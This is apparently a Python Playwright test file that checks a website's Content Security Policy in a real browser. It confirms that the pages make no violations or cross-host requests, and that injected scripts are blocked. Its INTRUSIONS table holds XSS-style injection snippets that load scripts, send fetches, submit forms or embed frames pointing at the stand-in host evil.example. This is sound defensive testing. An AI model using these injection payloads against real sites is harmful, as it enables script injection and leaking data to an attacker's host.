"""The policy of every page, in a real browser: the site does all it does, and nothing else can.

What a script that got in could do is tried on a page; what the pages do themselves is in the other
tests, which fail at the first line of the console.
"""

from collections.abc import Callable
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page, Request, expect
from sites import BuiltSite

from .test_pages import EVERY, place, until

pytestmark = pytest.mark.browser

NOTE_VIOLATIONS = """window.violations = [];
document.addEventListener("securitypolicyviolation", event =>
    violations.push(event.effectiveDirective))"""


def watched(page: Page, address: str) -> list[str]:
    """Return a list that fills with what pages do against their policy or ask of other hosts."""
    found: list[str] = []

    def note(request: Request) -> None:
        if urlsplit(request.url).netloc != urlsplit(address).netloc:
            found.append(request.url)

    page.on("request", note)
    page.on(
        "console", lambda message: "Content Security" in message.text and found.append(message.text)
    )
    page.add_init_script(NOTE_VIOLATIONS)
    return found


def test_no_page_does_what_its_policy_forbids(
    open_context: Callable[..., BrowserContext], address: str, visited_site: BuiltSite
) -> None:
    page = open_context().new_page()
    found = watched(page, address)
    for name, language in EVERY:
        where = place(visited_site, name, language)
        page.goto(address + where, wait_until="load")
        assert page.evaluate("violations") == [], f"/{where}"
        assert found == [], f"/{where}"


@pytest.mark.parametrize("language", ["", "ar/"])
def test_search_does_nothing_that_the_policy_forbids(
    page: Page, address: str, language: str
) -> None:
    found = watched(page, address)
    page.goto(f"{address}{language}about/")
    page.locator("#_query").press_sequentially("kenya")
    expect(page.locator("[role=option]").first).to_be_visible()
    assert page.evaluate("violations") == []
    page.goto(f"{address}{language}search/?q=kenya")
    expect(page.locator(".answer .entry").first).to_be_visible()
    assert page.evaluate("violations") == []
    assert found == []


def test_a_redirect_under_the_policy_still_leads_on(page: Page, address: str) -> None:
    page.goto(f"{address}former-specimen/")
    page.wait_for_url(f"{address}stories/specimen/")


#: What is forbidden, and a script that tries it.
INTRUSIONS = {
    "a script in the page": (
        "script-src-elem",
        "document.body.append(Object.assign(document.createElement('script'),"
        " {textContent: 'window.ran = true'}))",
    ),
    "a script of another host": (
        "script-src-elem",
        "document.body.append(Object.assign(document.createElement('script'),"
        " {src: 'https://evil.example/x.js', onload: () => window.ran = true}))",
    ),
    "a script of a data address": (
        "script-src-elem",
        "document.body.append(Object.assign(document.createElement('script'),"
        " {src: 'data:text/javascript,window.ran=true'}))",
    ),
    "an event handler": (
        "script-src-attr",
        "document.body.insertAdjacentHTML('beforeend', '<img src=/ onerror=window.ran=1>')",
    ),
    "a link that runs": (
        "script-src-elem",
        "{ const link = document.createElement('a'); link.href = 'javascript:window.ran = true';"
        " document.body.append(link); link.click(); }",
    ),
    "text that becomes code": (
        "script-src",
        "setTimeout('window.ran = true')",
    ),
    "a style in the page": (
        "style-src-elem",
        "document.head.append(Object.assign(document.createElement('style'),"
        " {textContent: 'h1 { color: rgb(1, 2, 3) }'}))",
    ),
    "a style attribute": (
        "style-src-attr",
        "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">')",
    ),
    "a picture of another host": (
        "img-src",
        "new Image().src = 'https://evil.example/x.png'",
    ),
    "a message to another host": (
        "connect-src",
        "fetch('https://evil.example/').catch(() => 0)",
    ),
    "a frame": (
        "frame-src",
        "document.body.append(Object.assign(document.createElement('iframe'),"
        " {src: 'https://evil.example/'}))",
    ),
    "a form to another host": (
        "form-action",
        "document.body.insertAdjacentHTML('beforeend',"
        " '<form id=evil action=https://evil.example/><input name=q></form>');"
        " document.querySelector('#evil').submit()",
    ),
    "another base of all addresses": (
        "base-uri",
        "document.head.append(Object.assign(document.createElement('base'),"
        " {href: 'https://evil.example/'}))",
    ),
    "a plugin": (
        "object-src",
        "document.body.append(Object.assign(document.createElement('object'),"
        " {data: 'https://evil.example/x'}))",
    ),
}  # fmt: skip


@pytest.mark.parametrize("intrusion", INTRUSIONS)
def test_what_gets_into_a_page_can_do_nothing(page: Page, address: str, intrusion: str) -> None:
    forbidden, script = INTRUSIONS[intrusion]
    page.add_init_script(NOTE_VIOLATIONS)
    for where in ("stories/specimen/", "ar/stories/specimen/"):
        page.goto(address + where)
        page.evaluate(script)
        until(page, "() => violations.length > 0")
        assert set(page.evaluate("violations")) == {forbidden}
        assert page.evaluate("window.ran") is None
        assert page.url == address + where
